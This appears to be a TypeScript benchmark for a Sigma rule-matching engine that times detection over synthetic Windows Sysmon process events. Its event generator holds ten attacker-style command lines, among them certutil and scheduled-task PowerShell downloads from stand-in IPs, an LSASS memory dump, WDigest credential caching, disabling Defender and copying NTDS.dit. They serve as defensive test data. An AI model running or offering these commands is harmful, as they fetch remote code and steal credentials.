// CPU time of 0, 50, 500 and all public Sigma rules on Windows process events full of attacks, all rules meeting every
// event.  TAPLINE_SIGMA_RULES=<tar or directory> [TAPLINE_SIGMA_EVENTS=<NDJSON>] node bench/hot/rules.ts
// Without the rules, which are not ours, it says so and makes some up; the same for events. Those that are made up are new
// in every pass: programs, users and command lines come again, ids and hashes do not; given ones are the same. Twice each:
// as they are, and with something of its own in every text, so that no value comes twice.
import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, statSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { readRules } from "../../src/detect/load.ts";
import { parseRules } from "../../src/detect/parse.ts";
import type { Rule } from "../../src/detect/rule.ts";
import type { RuleSet } from "../../src/detect/match.ts";
import { compileRules } from "../../src/detect/rules.ts";

const rate = (us: number): string => Math.round(1e6 / us).toLocaleString("en-US");

const LIVE = [
  "rules",
  "rules-compliance",
  "rules-emerging-threats",
  "rules-threat-hunting",
  "rules-placeholder",
];
const COUNTS = [0, 50, 500, 3_754];
const EVENTS = 2_048;
const PASSES = 12;

let state = 12_345;
/** A number below `max`. */
function below(max: number): number {
  state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
  return Math.floor((state / 4_294_967_296) * max);
}
const pick = <T>(list: readonly T[]): T => list[below(list.length)]!;

const PROGRAMS =
  "powershell cmd rundll32 regsvr32 certutil mshta wmic schtasks reg net wscript bitsadmin".split(" ");
const PARENTS = "explorer winword excel outlook cmd powershell services svchost w3wp wmiprvse".split(" ");
const LINES = [
  "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
  '/c "whoami /all & net group "domain admins" /domain & ipconfig /all" > C:\\Users\\Public\\out.txt',
  "-urlcache -split -f http://203.0.113.7/a.exe C:\\ProgramData\\a.exe",
  'javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://203.0.113.7/x.sct")',
  'process call create "C:\\Windows\\Temp\\b.exe --quiet" /node:10.0.0.5 /user:CORP\\svc-backup',
  '/create /sc minute /mo 5 /tn "Updater" /tr "powershell -c IEX(iwr http://198.51.100.2/p.ps1)" /ru SYSTEM',
  "add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f",
  "C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\lsass.dmp full",
  "-Command Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\\Temp",
  "/c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\NTDS.dit C:\\Temp\\n.dit",
];
const DIRS = [
  "C:\\Windows\\System32\\",
  "C:\\Windows\\Temp\\",
  "C:\\Users\\Public\\",
  "C:\\Program Files\\App\\",
];
const hex = (chars: number): string =>
  Array.from({ length: chars }, () => "0123456789ABCDEF"[below(16)]).join("");

function madeEvent(): string {
  const [program, parent] = [pick(PROGRAMS), pick(PARENTS)];
  const image = `${pick(DIRS)}${program}.exe`;
  return JSON.stringify({
    EventID: 1,
    Channel: "Microsoft-Windows-Sysmon/Operational",
    Provider_Name: "Microsoft-Windows-Sysmon",
    Computer: `ws-${below(500)}.corp.example`,
    UtcTime: "2026-11-01 10:00:00.000",
    ProcessGuid: `{${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}}`,
    ProcessId: below(65_536),
    Image: image,
    OriginalFileName: `${program.toUpperCase()}.EXE`,
    Description: `Windows ${program}`,
    Product: "Microsoft® Windows® Operating System",
    Company: "Microsoft Corporation",
    CommandLine: `"${image}" ${pick(LINES)}`,
    CurrentDirectory: pick(DIRS),
    User: pick(["NT AUTHORITY\\SYSTEM", "CORP\\ann", "CORP\\svc-backup"]),
    LogonId: `0x${hex(6)}`,
    IntegrityLevel: pick(["High", "Medium", "System"]),
    Hashes: `MD5=${hex(32)},SHA256=${hex(64)},IMPHASH=${hex(32)}`,
    ParentImage: `${pick(DIRS)}${parent}.exe`,
    ParentCommandLine: `"${pick(DIRS)}${parent}.exe" ${below(3) === 0 ? pick(LINES) : "-k netsvcs"}`,
  });
}

/** In the manner of the public ones: a program, words of its command line, and what is left out. */
function madeRule(place: number): string {
  const words = pick(LINES)
    .split(/[ ;,"]+/)
    .filter((word) => word.length > 2);
  const some = (most: number): string[] =>
    Array.from({ length: 1 + below(most) }, () => `${pick(words)}${below(4) === 0 ? "" : hex(3)}`);
  const detection = {
    image: [{ "Image|endswith": `\\${pick(PROGRAMS)}.exe` }, { OriginalFileName: `${hex(6)}.exe` }],
    line: { "CommandLine|contains|all": [pick(words), ...some(3)] },
    other: { "CommandLine|contains": some(12) },
    filter: { "ParentImage|endswith": `\\${pick(PARENTS)}.exe` },
    condition: pick(["image and line", "image and other and not filter", "line", "1 of image and other"]),
  };
  const logsource = { product: "windows", category: "process_creation" };
  return JSON.stringify({ title: `Made up ${place}`, logsource, detection });
}

async function rulesOf(path: string): Promise<Rule[]> {
  let dir = path;
  if (statSync(path).isFile()) {
    dir = mkdtempSync(join(tmpdir(), "tapline-bench-rules-"));
    execFileSync("tar", ["xf", path, "-C", dir]);
  }
  const { rules } = await readRules(LIVE.map((name) => join(dir, name)));
  if (dir !== path) rmSync(dir, { recursive: true });
  return rules;
}

const source = process.env["TAPLINE_SIGMA_RULES"];
if (source === undefined)
  console.log("  RULES MADE UP: TAPLINE_SIGMA_RULES names no public ones (a tar or a directory)");
const read =
  source === undefined
    ? Array.from({ length: COUNTS.at(-1)! }, (_, i) => parseRules(madeRule(i), `made-${i}`).rules[0]!)
    : await rulesOf(source);
// Without the rules on lists that only an inventory defines.
const usable = compileRules(read, { fields: "any" }).rules.map(({ rule }) => rule);
for (let i = usable.length - 1; i > 0; i--) {
  const other = below(i + 1);
  [usable[i], usable[other]] = [usable[other]!, usable[i]!];
}
const file = process.env["TAPLINE_SIGMA_EVENTS"];
const given =
  file === undefined
    ? undefined
    : readFileSync(file, "utf8")
        .trim()
        .split("\n")
        .slice(0, 2 * EVENTS);

let serial = 0;
/** A part of its own in the middle of a text, before the last backslash, where no ending is harmed. */
function own(value: unknown): unknown {
  if (typeof value !== "string") return value;
  const at = value.lastIndexOf("\\");
  const part = `x${(serial++).toString(36)}q`;
  return at < 0 ? `${value} ${part}` : `${value.slice(0, at)}\\${part}${value.slice(at)}`;
}

function linesOf(once: boolean): readonly string[] {
  const lines = given ?? Array.from({ length: EVENTS }, madeEvent);
  if (!once) return lines;
  return lines.map((line) => {
    const event = JSON.parse(line) as Record<string, unknown>;
    return JSON.stringify(Object.fromEntries(Object.entries(event).map(([key, value]) => [key, own(value)])));
  });
}

const cpu = (): number => {
  const { user, system } = process.cpuUsage();
  return user + system;
};

/** Least µs of CPU an event, of some passes, alone and with parsing; what is handed in is made outside of the clock. */
function time(set: RuleSet, once: boolean): { alone: number; parsed: number; matches: number } {
  const out: number[] = [];
  let [alone, parsed, matches] = [Infinity, Infinity, 0];
  for (let pass = 0; pass < PASSES; pass++) {
    let lines = linesOf(once);
    const events = lines.map((line) => JSON.parse(line) as never);
    out.length = 0;
    let start = cpu();
    for (let i = 0; i < events.length; i++) set.match(events[i]!, out);
    alone = Math.min(alone, (cpu() - start) / events.length);
    matches = out.length / events.length;
    lines = linesOf(once);
    out.length = 0;
    start = cpu();
    for (let i = 0; i < lines.length; i++) set.match(JSON.parse(lines[i]!) as never, out);
    parsed = Math.min(parsed, (cpu() - start) / lines.length);
  }
  return { alone, parsed, matches };
}

const lines = linesOf(false);
const bytes = Math.round(lines.reduce((sum, line) => sum + line.length, 0) / lines.length);
console.log(`  ${lines.length} ${given === undefined ? "made-up" : "given"} events of ${bytes} bytes`);
for (const count of COUNTS) {
  for (const once of [false, true]) {
    const set = compileRules(usable.slice(0, count), { fields: "any" });
    const { alone, parsed, matches } = time(set, once);
    console.log(
      `  ${set.rules.length} rules${once ? ", no value twice" : ""}: ${alone.toFixed(2)} µs CPU per event, ` +
        `${rate(alone)} events/s; with JSON.parse ${parsed.toFixed(2)} µs, ${rate(parsed)} events/s; ` +
        `${matches.toFixed(2)} matches an event`,
    );
  }
}
